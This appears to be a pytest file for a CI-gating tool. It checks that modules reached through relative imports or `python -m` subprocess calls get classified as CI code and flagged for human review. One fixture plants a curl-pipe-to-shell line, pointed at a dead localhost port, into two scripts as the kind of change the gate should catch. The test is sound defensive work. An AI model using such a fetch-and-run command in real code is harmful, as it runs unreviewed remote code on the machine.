"""Misses 11 (issue 12, `ci` recall): the modules a Python file CI runs loads that ciimports did not follow.

Review 70 left them: a relative import in a module CI runs with `-m` (`python -m scripts.release` with `from .lib
import notes`, `from . import helper`, `from ..shared import x` inside a tooling folder), and a module the script starts
by its dotted name in a new interpreter (`subprocess.run([sys.executable, "-m", "scripts.lib.notes"])`, `check_call`,
`["python3", "-m", …]`, a `__main__.py` package). On ed28b952 each left the module `src`. Look-alikes: a relative
import that climbs out of the tooling folders (the product), a `-m` whose module the tree lacks, a commented call.
"""

from __future__ import annotations

import pytest
from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated

from gatekeeper.classify import ciimports

PY = "print('x')\n"
RELATIVE = [  # (the run module's file, its import line, the module it loads)
    ("scripts/release.py", "from .lib import notes", "scripts/lib/notes.py"),
    ("scripts/release.py", "from . import helper", "scripts/helper.py"),
    ("scripts/release.py", "from .lib.notes import go", "scripts/lib/notes.py"),
    ("tools/ci/release.py", "from ..shared import db", "tools/shared/db.py"),
    ("tools/ci/release.py", "from ..shared.db import x", "tools/shared/db.py"),
    ("tools/ci/release.py", "from .. import common", "tools/common.py"),
    ("ci/py/release.py", "from .steps import (\n    build,\n)", "ci/py/steps.py"),
    ("scripts/release/__main__.py", "from .notes import x", "scripts/release/notes.py"),
]
STARTS = ["subprocess.run([sys.executable, '-m', '{m}'], check=True)",
          'subprocess.check_call([sys.executable, "-m", "{m}"])',
          "subprocess.run(['python3', '-m', '{m}'])", "proc = subprocess.Popen([sys.executable, '-u', '-m', '{m}'])",
          "cmd = [\n    sys.executable,\n    '-m',\n    '{m}',\n]"]
STARTED = [("scripts.lib.notes", "scripts/lib/notes.py"), ("tools.gen", "tools/gen/__main__.py")]


def _module_run(path: str, line: str, module: str) -> dict[str, str]:
    dotted = path.removesuffix(".py").removesuffix("/__main__").replace("/", ".")
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=f"python -m {dotted}"), path: f"{line}\n",
            module: PY, "README.md": "x\n"}


@pytest.mark.parametrize("path, line, module", RELATIVE)
def test_a_relative_import_of_a_module_ci_runs_is_ci(path: str, line: str, module: str) -> None:
    assert module in tree_runs(_module_run(path, line, module)), line  # before: 8 of 8 missed


@pytest.mark.parametrize("line, module", [(form.format(m=dotted), module) for form in STARTS
                                         for dotted, module in STARTED])
def test_a_module_a_ci_script_starts_by_its_name_is_ci(line: str, module: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="python scripts/release.py"),
             "scripts/release.py": f"import subprocess, sys\n{line}\n", module: PY}
    assert module in tree_runs(files), line  # before: 10 of 10 missed


LOOK_ALIKES = [("scripts/release.py", "from ... import app", "app.py"),
               ("scripts/release.py", "from .lib import other", "scripts/lib/notes.py"),
               ("src/pkg/cli.py", "from .core import run", "src/pkg/core.py"),
               ("Cython/Build/Cythonize.py", "from .Cache import Cache", "Cython/Build/Cache.py"),
               ("scripts/release.py", "# subprocess.run([sys.executable, '-m', 'scripts.lib.notes'])",
                "scripts/lib/notes.py")]


@pytest.mark.parametrize("path, line, module", LOOK_ALIKES)
def test_look_alikes_keep_their_bucket(path: str, line: str, module: str) -> None:
    assert module not in tree_runs(_module_run(path, line, module)), line


def test_gate_tree_asks_for_a_human(tmp_path_factory: pytest.TempPathFactory) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="python -m scripts.release"),
            "scripts/__init__.py": "", "scripts/release.py": "import subprocess, sys\nfrom .lib import notes\n"
            "subprocess.run([sys.executable, '-m', 'scripts.tag'], check=True)\n",
            "scripts/lib/notes.py": PY, "scripts/tag.py": PY}
    head = {path: "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n"
            for path in ("scripts/lib/notes.py", "scripts/tag.py")}
    code, named = gated_rules(committed(tmp_path_factory.mktemp("pyimports"), base, head), True)
    assert code == 3
    assert set(head) <= set(named.get("core.ci", [])), named  # before: exit 0, neither ci


@pytest.mark.parametrize("hostile", [repeated("from .a import b\n"), repeated("from ..a.b import (c, d,\n"),
                                     repeated("'-m', 'a.b', "), repeated("x = ['-m', '-m', '-m'\n")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 0.07 CPU-s at 64 KiB (load 15.7; the `from ..a.b import (` one, bounded by MAX_FROMS)
    assert_linear(lambda text: ciimports.imported("scripts/ci/release.py", text), hostile,  # type: ignore[arg-type]
                  budget=0.3)
